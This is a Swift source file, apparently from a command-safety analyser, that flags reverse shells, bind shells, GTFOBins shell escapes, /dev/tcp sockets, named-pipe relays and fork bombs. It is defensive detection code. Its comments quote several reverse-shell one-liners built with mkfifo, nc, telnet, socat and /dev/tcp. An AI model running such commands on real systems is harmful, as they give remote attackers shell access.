// Reverse shells, bind shells, and shells spawned out of ordinary programs (GTFOBins).

enum ShellAccess {
    static let socatLikeOptions: NameSet = ["-S", "-L", "-f", "-c", "-T"]
    static let shellSetting: NameSet = ["-s", "--shell", "-S", "--login-shell"]
    static let shellSetters: NameSet = [
        "useradd", "usermod", "adduser", "su", "runuser", "apptainer", "singularity", "login",
        "newusers", "sudo",
    ]
    static let transparent: NameSet = [
        "sudo", "doas", "env", "nice", "nohup", "time", "timeout", "stdbuf", "setsid", "exec",
        "command", "builtin",
    ]
    /// Families whose shell-path arguments are data or code, not a spawn. A constant: the
    /// OptionSet array literal was a heap-allocated array built for every program.
    static let notSpawners: ProgramKind = [.informational, .interpreter, .editor]

    static func check(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
        // Only the redirections are needed: a borrowed read of one field of the command.
        let redirects = a[commandOf: k].redirects
        socketRedirections(a, k, inv, redirects)
        networkPrograms(a, k, inv)
        if spawnedShell(a, k, inv, redirects) { return }
        shellPathArgument(a, k, inv)
        shellOpeners(a, k, inv)
        librariesPayloadsPagers(a, k, inv)
    }

    /// /dev/tcp and /dev/udp: bash opens a socket on redirection; wired to a shell's stdio it is
    /// a reverse shell, otherwise a raw transfer.
    static func socketRedirections(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation, _ redirects: [ShellRedirect]) {
        let p = inv.program
        let sockets = redirects.filter {
            $0.target.value.isDevSocketPath
        }
        if !sockets.isEmpty
            || inv.args.contains(where: \.isDevSocketPath)
        {
            let wiresStdio =
                redirects.contains { ($0.op == ">&" || $0.op == "<&" || $0.op == "&>") }
                || sockets.contains { $0.op == "<>" || $0.op == "&>" || $0.op == ">&" }
            let stdio = redirects.contains { $0.fd == nil || $0.fd == 0 || $0.fd == 1 || $0.fd == 2 }
            if inv.kind.contains(.shell) || p.eq("exec") && wiresStdio && stdio && redirects.count >= 2
                || (wiresStdio && redirects.count >= 2 && stdio && !p.eq("exec"))
            {
                a.hit(
                    .devTcpShell, k,
                    reason: "reverse shell: \(p) wired to \(sockets.first?.target.value ?? "/dev/tcp")")
            } else {
                a.hit(
                    .rawSocketTransfer, k,
                    reason: "data sent or received through \(sockets.first?.target.value ?? "/dev/tcp")")
            }
        }

    }

    /// netcat-style `-e`/`-c`, socat's exec addresses, and a network client piped into a shell.
    static func networkPrograms(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
        let p = inv.program
        // telnet's -e sets the escape character; only netcat-style -e/-c runs a program.
        if inv.kind.contains(.netClient) && !p.eq("socat") && !p.eq("openssl") && !p.eq("telnet") {
            if inv.hasAny(["-e", "-c", "--exec", "--sh-exec", "--lua-exec"]) {
                if inv.hasAny(["-l", "--listen"]) {
                    a.hit(.bindShell, k, reason: "bind shell: \(p) -l serving a program to whoever connects")
                } else {
                    a.hit(.netcatExec, k, reason: "reverse shell: \(p) -e hands a program to a remote host")
                }
            }
        }
        // socket(1)'s `-p PROG` runs PROG with the connection as its input and output; with
        // `-s` socket listens first (GTFOBins `socket -svp '/bin/sh -i' PORT`). A shell as PROG
        // is a bind shell (B3) or, connecting out, a reverse shell.
        if p.eq("socket") {
            let args = inv.args
            if let j = args.firstIndex(where: { w in
                w.utf8.count >= 2 && w.utf8.first == UInt8(ascii: "-") && w.utf8.dropFirst().first != UInt8(ascii: "-")
                    && w.hasSuffix("p")
            }), j + 1 < args.count,
                let prog = args[j + 1].split(separator: " ").first.map(String.init),
                Programs.isShellPath(prog) || shellNames.contains(prog)
            {
                if args[j].has("s") || args.contains("-s") {
                    a.hit(.bindShell, k, reason: "bind shell: socket -s serves \(prog) on a listening port")
                } else {
                    a.hit(.netcatExec, k, reason: "reverse shell: socket -p hands \(prog) to a remote host")
                }
            }
        }
        if p.eq("socat") {
            let lower = inv.args.map(\.asciiLowercased)
            let runs = lower.contains {
                $0.hasPrefix("exec:") || $0.hasPrefix("system:") || $0.has(",exec")
                    || $0.hasPrefix("exec") && $0.has("sh")
            }
            let net = lower.contains {
                $0.hasPrefix("tcp") || $0.hasPrefix("udp") || $0.hasPrefix("openssl") || $0.hasPrefix("ssl")
                    || $0.hasPrefix("sctp")
            }
            if runs && net {
                if lower.contains(where: { $0.has("listen") }) {
                    a.hit(.bindShell, k, reason: "bind shell: socat serves a program on a listening port")
                } else {
                    a.hit(.socatExec, k, reason: "reverse shell: socat connects a program to a remote host")
                }
            }
        }

        // A network client's output fed to a shell: `telnet h p | /bin/sh | telnet h p2`.
        if inv.kind.contains(.netClient) || p.eq("telnet") {
            if let s = a.firstDownstream(of: k, .shellRunsStdinScript) {
                a.hit(
                    .telnetPipeShell, k, evidence: a.evidence(k) + " | " + a.invocations[s].program,
                    reason: "reverse shell: network input piped into \(a.invocations[s].program)")
            }
        }

    }

    /// A shell escape typed into an interactive program, or a shell started with nothing to
    /// run (interactive, or through another program). True when the invocation is a shell (or
    /// an escape), which ends the checks for it.
    static func spawnedShell(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation, _ redirects: [ShellRedirect])
        -> Bool
    {
        let p = inv.program
        if inv.typedEscape && (inv.kind.contains(.shell) || inv.written.hasPrefix("/")) {
            a.hit(
                .shellEscape, k, reason: "shell escape typed into an interactive program: !\(inv.written)")
            return true
        }
        if inv.kind.contains(.shell) {
            let script =
                a.shellScriptArgument(inv.args) != nil || inv.positionals.first.map { $0 != "-" } == true
            // Fed a script: from a pipe, a file, a here-document. Not fed: a terminal (`<$(tty)`,
            // `</dev/tty`) or a descriptor dup (`0<&1`), which is how escapes wire a shell up.
            let fed =
                a[commandOf: k].position > 0
                || redirects.contains { r in
                    (r.op == "<" || r.op.hasPrefix("<<")) && !r.target.value.has("tty")
                        && !r.target.value.hasPrefix("/dev/pts")
                        && !r.target.value.hasPrefix("@")  // Tcl's `<@stdin` channel syntax, typed into tclsh
                }
            if !script && !fed {
                let nested = inv.wrappers.contains { !transparent.contains($0) }
                if let r = inv.remote, r != "localhost" && r != "127.0.0.1" && !r.hasSuffix("@localhost") {
                    // An interactive shell inside a container or on another host: not this machine.
                } else if nested || inv.has("-p") || inv.pathClass == .relative {
                    a.hit(
                        .shellEscape, k,
                        reason:
                            "shell spawned through \(inv.wrappers.last ?? inv.written)\(inv.has("-p") ? " with -p (keeps setuid privileges)" : "")"
                    )
                } else {
                    a.hit(
                        .interactiveShell, k,
                        reason: "starts an interactive \(p): what is typed next is not checked")
                }
            }
            return true
        }
        return false
    }

    /// A program handed a shell's path to run: `find -exec /bin/sh`, `X -- /bin/sh`.
    static func shellPathArgument(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
        let p = inv.program
        if inv.kind.isDisjoint(with: notSpawners) {
            // `useradd -s /bin/zsh`, `su --shell /bin/zsh`: a login shell setting, not a spawn;
            // `X -- /bin/sh -c '...'` is a wrapped script, parsed as one.
            let setsShell = shellSetters.contains(p)
            let spawned = inv.args.enumerated().first { j, x in
                Programs.isShellPath(x) && !(setsShell && j > 0 && shellSetting.contains(inv.args[j - 1]))
                    && !(setsShell && x.hasPrefix("--shell="))
                    && !(j + 1 < inv.args.count && inv.args[j + 1] == "-c")
            }
            if let arg = spawned?.element {
                a.hit(
                    .shellEscape, k,
                    reason:
                        "\(p) is given a shell to run (\(arg.utf8.count > 60 ? String(decoding: arg.utf8.prefix(60), as: UTF8.self) + "..." : arg))"
                )
            }
        }
    }

    /// Programs that open a shell when given nothing to run, and sed's executing commands.
    static func shellOpeners(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
        let p = inv.program
        // The `screen` and `sg` cases each test the arguments not starting with `-` in place, not
        // through a shared local computed property: one capturing `inv` needs a heap-allocated
        // closure context for every program, though only these two cases read it. Both must keep
        // that one definition of a bare argument.
        switch Name(p) {
        case "screen", "byobu", "zellij":
            if !inv.args.contains(where: { !$0.hasPrefix("-") }) || inv.args == ["-S"] {
                a.hit(.interactiveShell, k, reason: "\(p) starts an interactive shell")
            }
        case "tmux":
            let rest = Array(
                inv.args[skipOptions(inv.args, from: 0, withValue: ShellAccess.socatLikeOptions)...])
            if rest.isEmpty || rest.count == 1 && (rest[0] == "new" || rest[0] == "new-session") {
                a.hit(.interactiveShell, k, reason: "tmux starts an interactive shell")
            }
        case "script":
            if !inv.hasAny(["-c", "--command"]) {
                a.hit(.interactiveShell, k, reason: "script starts an interactive shell")
            }
        case "capsh":
            if inv.args.isEmpty || inv.args.last == "--" {
                a.hit(.shellEscape, k, reason: "capsh starts a shell")
            }
        case "sg", "newgrp":
            if inv.args.filter({ !$0.hasPrefix("-") }).count <= 1 {
                a.hit(.shellEscape, k, reason: "\(p) starts a shell with another group")
            }
        case "sed", "gsed":
            // GNU sed's `e` command and `s///e` flag execute text as commands.
            if inv.args.contains(where: sedExecutes) {
                a.hit(.shellEscape, k, reason: "sed executes commands (e command or s///e)")
            }
        case "minicom":
            if inv.has("-D") && inv.args.contains("/dev/null") {
                a.hit(.shellEscape, k, reason: "minicom on /dev/null: a shell escape")
            }
        default:
            // `ansible-test shell`, `poetry shell`, `pipenv shell`: a subcommand that opens a shell.
            if inv.args.contains(where: { $0.utf8.count == 5 && $0 == "shell" })
                && inv.positionals.count == 1
                && (inv.kind.contains(.known) || p.hasPrefix("ansible"))
            {
                a.hit(.interactiveShell, k, reason: "\(p) shell starts an interactive shell")
            }
        }
    }

    /// Native libraries loaded into ordinary programs; payloads echoed into files; pagers and
    /// editors told to run a program.
    static func librariesPayloadsPagers(_ a: Analysis, _ k: Int, _ inv: borrowing Invocation) {
        let p = inv.program
        let loads: Bool
        var echoes = false
        var pages = inv.kind.contains(.editor)
        switch Name(p) {
        case "enable": loads = inv.has("-f")
        case "openssl": loads = inv.has("-engine") && inv.args.contains(where: { $0.hasSuffix(".so") })
        case "ssh-keygen": loads = inv.has("-D")
        case "ssh-agent": loads = inv.has("-P")
        case "mysql", "mariadb": loads = inv.hasAny(["--default-auth", "--plugin-dir"])
        case "echo", "printf":
            loads = false
            echoes = true
        case "less", "more", "man":
            loads = false
            pages = true
        default: loads = false
        }
        if loads {
            a.hit(.libraryLoad, k, reason: "\(p) loads a native library")
        }
        if echoes
            && inv.args.contains(where: {
                Programs.isShellPath($0) || $0.has("os.execute(") || $0.has("system(")
            })
            && !a.outputTargets(k).isEmpty
        {
            a.hit(.shellEscape, k, reason: "writes a shell-spawning payload to a file")
        }
        if pages {
            if inv.environment.contains(where: {
                $0.0 == "PAGER" || $0.0 == "MANPAGER" || $0.0 == "EDITOR" || $0.0 == "VISUAL"
            }) {
                a.hit(.shellEscape, k, reason: "\(p) with a pager or editor variable set to a program")
            }
        }
    }

    static func checkScript(_ a: Analysis) {
        // `{ ...; } 3<>/dev/tcp/h/p`: a socket opened by a group, whose redirection stands alone.
        for c in a.script.commands where c.words.isEmpty {
            if let r = c.redirects.first(where: {
                $0.target.value.isDevSocketPath
            }) {
                a.hit(
                    .rawSocketTransfer, evidence: c.text,
                    reason: "data sent or received through \(r.target.value)")
            }
        }
        // mkfifo relay: `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc h p > /tmp/f`.
        let fifo = a.invocations.indices.first {
            a.invocations[$0].program.eq("mkfifo")
                || (a.invocations[$0].program.eq("mknod") && a.invocations[$0].args.contains("p"))
        }
        if let f = fifo {
            let net = a.invocations.contains { Programs.netClients.contains($0.program) }
            let shell = a.invocations.contains { $0.kind.contains(.shell) }
            if net && shell {
                a.hit(
                    .fifoRelay, f,
                    evidence: a.script.text.utf8.count > 200
                        ? String(decoding: a.script.text.utf8.prefix(200), as: UTF8.self) : a.script.text,
                    reason: "reverse shell: a named pipe relays a shell through a network client")
            }
        }
        // `exec 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l 2>&5 >&5; done`.
        let hits = a.hits
        if hits.indices.contains(where: {
            hits[$0].signal == .rawSocketTransfer && hits[$0].evidence.has("/dev/tcp")
        }),
            a.invocations.contains(where: { $0.pathClass == .dynamic })
        {
            a.hit(
                .devTcpShell, evidence: String(decoding: a.script.text.utf8.prefix(200), as: UTF8.self),
                reason: "reverse shell: commands read from /dev/tcp are executed")
        }
        // Fork bomb: a function that calls itself twice through a pipe or in the background.
        for f in a.script.functions {
            let calls = f.commands.filter { c in a.script.commands[c].words.first?.value == f.name }
            if calls.count >= 2
                || calls.contains(where: { a.script.commands[$0].background }) && calls.count >= 1
                    && a.script.commands[calls[0]].position > 0
                || calls.count >= 2
            {
                a.hit(
                    .forkBomb, evidence: String(decoding: a.script.text.utf8.prefix(80), as: UTF8.self),
                    reason: "fork bomb: function \(f.name) spawns copies of itself")
                break
            }
        }
    }
}

/// `1e exec sh`, `e`, `s/x/y/e`: sed expressions that run commands.
func sedExecutes(_ expr: String) -> Bool {
    var s = Substring(expr)
    while let c = s.first, c.isNumber || c == "$" || c == "," || c == " " { s = s.dropFirst() }
    if s == "e" || s.hasPrefix("e ") { return true }
    if s.hasPrefix("s"), s.count > 3, let d = s.dropFirst().first {
        let parts = s.dropFirst(2).split(separator: d, omittingEmptySubsequences: false)
        if parts.count == 3,
            parts[2].contains("e") && parts[2].allSatisfy({ "gipeIMw0123456789".contains($0) })
        {
            return true
        }
    }
    return false
}
